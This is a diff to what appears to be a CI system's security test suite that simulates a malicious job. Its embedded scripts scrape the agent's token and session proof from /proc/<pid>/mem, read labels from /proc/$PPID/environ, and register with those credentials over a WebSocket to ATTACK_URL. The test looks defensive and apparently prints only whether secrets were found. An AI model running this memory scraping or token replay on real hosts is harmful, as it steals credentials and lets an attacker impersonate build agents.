@@ -21,7 +21,8 @@ export const TOKEN_RE = /kici_[A-Za-z0-9_-]{43}/;
 const ATTACK = `
 const ws = new WebSocket(process.env.ATTACK_URL);
 ws.onopen = () => ws.send(JSON.stringify({ type: 'register', protocol: 1, agentId: process.env.KICI_AGENT_ID,
-  token: process.env.ATTACK_TOKEN, labels: [], jobsDone: 0 }));
+  token: process.env.ATTACK_TOKEN, session: process.env.ATTACK_SESSION,
+  labels: (process.env.ATTACK_LABELS ?? '').split(',').filter(Boolean), jobsDone: 0 }));
 ws.onmessage = (e) => console.log('attack got ' + JSON.parse(String(e.data)).type);
 ws.onerror = () => console.log('attack error');
 ws.onclose = (e) => { console.log('attack closed ' + e.code); process.exit(0); };
@@ -43,19 +44,20 @@ export const THIEF_STEP = [
 ].join('\n');
 
 /**
- * Reads the memory of the process AGENT_PID through /proc/<pid>/mem and prints the first token in
- * it (nothing when there is none, or the kernel refuses). A same-uid process may do this unless a
- * security module (Yama's ptrace_scope) or a non-dumpable target forbids it, so whether it works
- * depends on the host: the agent holds its token in memory to reconnect.
+ * Reads the memory of the process AGENT_PID through /proc/<pid>/mem and prints the first agent
+ * token and session proof in it (`none` for each it did not find, or when the kernel refuses). A
+ * same-uid process may do this unless a security module (Yama's ptrace_scope) or a non-dumpable
+ * target forbids it, so whether it works depends on the host: the agent keeps both in memory to
+ * reconnect.
  */
 const MEMORY_SCAN = `
 const fs = require('node:fs');
 const pid = process.env.AGENT_PID;
-let maps, fd;
+let maps, fd, token, proof;
 try {
   maps = fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n');
   fd = fs.openSync('/proc/' + pid + '/mem', 'r');
-} catch (e) { console.error('memory thief: ' + e.code); process.exit(0); }
+} catch (e) { console.error('memory thief: ' + e.code); maps = []; }
 for (const line of maps) {
   const [range, perms] = line.split(' ');
   if (!range || !perms.startsWith('r')) continue;
@@ -63,20 +65,25 @@ for (const line of maps) {
   if (b - a > 512 * 1024 * 1024) continue;
   const buf = Buffer.alloc(b - a);
   try { fs.readSync(fd, buf, 0, b - a, a); } catch { continue; }
-  const m = buf.toString('latin1').match(/kici_[A-Za-z0-9_-]{43}/);
-  if (m) { console.log(m[0]); process.exit(0); }
+  const text = buf.toString('latin1');
+  token ??= text.match(/kici_[A-Za-z0-9_-]{43}/)?.[0];
+  proof ??= text.match(/kses_[A-Za-z0-9_-]{43}/)?.[0];
 }
+console.log((token ?? 'none') + ' ' + (proof ?? 'none'));
 `;
 
 /**
- * A sharper thief: the agent's token from the agent's memory, used as in THIEF_STEP. It prints
- * whether it found one, never the token. Where the host lets it read, it holds a live token but not
- * the agent's session proof.
+ * A sharper thief: the agent's token and session proof from the agent's memory, and its labels
+ * from its environment. It registers with the token alone, then with the proof too, and prints
+ * what it found, never the secrets themselves.
  */
 export const MEMORY_THIEF_STEP = [
-  'found=$(AGENT_PID=$PPID "$ATTACK_NODE" -e "$MEMORY_SCAN_SRC")',
-  'if [ -n "$found" ]; then echo "memory thief found: a token"; else echo "memory thief found: nothing"; fi',
-  'ATTACK_TOKEN="${found:-none}" "$ATTACK_NODE" -e "$ATTACK_SRC"',
+  'set -- $(AGENT_PID=$PPID "$ATTACK_NODE" -e "$MEMORY_SCAN_SRC")',
+  'got() { if [ "$1" = none ]; then echo no; else echo yes; fi; }',
+  'echo "memory thief found: token=$(got "$1") proof=$(got "$2")"',
+  'export ATTACK_LABELS="$(tr "\\0" "\\n" < /proc/$PPID/environ | sed -n "s/^KICI_LABELS=//p")"',
+  'ATTACK_TOKEN="$1" "$ATTACK_NODE" -e "$ATTACK_SRC"',
+  'if [ "$2" != none ]; then ATTACK_TOKEN="$1" ATTACK_SESSION="$2" "$ATTACK_NODE" -e "$ATTACK_SRC"; fi',
 ].join('\n');
 
 /** The thief job's environment: where to attack, and with what. */
